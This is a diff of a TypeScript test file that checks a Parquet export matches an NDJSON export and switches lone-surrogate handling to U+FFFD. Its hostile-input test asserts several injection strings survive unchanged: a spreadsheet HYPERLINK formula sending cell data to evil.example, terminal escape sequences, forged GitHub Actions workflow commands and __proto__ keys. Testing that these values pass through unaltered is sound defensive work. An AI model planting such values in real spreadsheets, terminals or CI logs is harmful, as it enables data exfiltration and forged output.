@@ -156,11 +156,6 @@ const LONE_SURROGATE = /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[
 /** Whether a string has no lone surrogate (String.prototype.isWellFormed, not in the ES2023 typings). */
 const isWellFormed = (text: string): boolean => text.match(LONE_SURROGATE) === null;
 
-/** A string as UTF-8 can carry it: each lone surrogate written as the text \udXXX (the README's rule). */
-function utf8Form(text: string): string {
-  return text.replace(LONE_SURROGATE, (c) => `\\u${c.charCodeAt(0).toString(16)}`);
-}
-
 /** Every column of every row: the Parquet value is the NDJSON value in the column's type. */
 function expectSameRows(
   fromParquet: Record<string, unknown>[],
@@ -179,13 +174,15 @@ function expectSameRows(
       if (want === null) {
         expect(got, where).toBeNull();
       } else if (type === "list") {
-        expect(got, where).toEqual((want as string[]).map(utf8Form));
+        expect(got, where).toEqual(want);
       } else if (type === TIMESTAMP) {
         expect(got, where).toBeInstanceOf(Date);
         expect((got as Date).toISOString(), where).toBe(want);
       } else if (type === STRING) {
-        if (!isWellFormed(want as string)) surrogateValues += 1;
-        expect(got, where).toBe(utf8Form(want as string));
+        // The NDJSON is I-JSON: a lone surrogate of the input is U+FFFD there, and so in the Parquet.
+        expect(isWellFormed(want as string), where).toBe(true);
+        if ((want as string).includes("\ufffd")) surrogateValues += 1;
+        expect(got, where).toBe(want);
       } else if (type === JSON_TYPE) {
         expect(got, where).toEqual(want);
       } else if ((type as { type: string }).type === "INT64") {
@@ -226,7 +223,7 @@ describe("export --format parquet = export --format ndjson, every column of ever
     });
   }
 
-  it("hostile.ndjson: NUL, escapes, formulas, __proto__ keys stay exact; a lone surrogate becomes \\ud800", async () => {
+  it("hostile.ndjson: NUL, escapes, formulas, __proto__ keys stay exact; a lone surrogate becomes U+FFFD", async () => {
     const { bytes } = await parquetFile(["hostile.ndjson"], "events");
     const read = await parquetReadObjects({ file: arrayBuffer(bytes) });
     const values = read.flatMap((row) => Object.values(row));
@@ -234,12 +231,12 @@ describe("export --format parquet = export --format ndjson, every column of ever
     expect(values).toContain('=HYPERLINK("http://evil.example/?d="&A1,"click")');
     expect(values).toContain("s-5-\u001b]0;pwned\u0007-\u001b[2J");
     expect(values).toContain("s-8\r\n::error file=evil.ndjson,line=1::forged");
-    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\\ud800");
-    expect(values).not.toContain("s-7-%0A::add-mask::x,y:z-\ufffd");
+    expect(values).toContain("s-7-%0A::add-mask::x,y:z-\ufffd");
+    expect(values).not.toContain("s-7-%0A::add-mask::x,y:z-\\ud800");
     const extra = read.find((row) => row.session_id === "hasOwnProperty" && row.extra !== null)?.extra;
     expect(Object.keys(extra as object)).toEqual(["__proto__", "constructor"]);
-    // The raw bytes hold no U+FFFD: nothing was replaced on the way to UTF-8.
-    expect(bytes.includes(Buffer.from("\ufffd"))).toBe(false);
+    // The raw bytes hold the U+FFFD (EF BF BD) written for it, and no lone surrogate escaped as text.
+    expect(bytes.includes(Buffer.from("\ufffd"))).toBe(true);
   });
 });
 
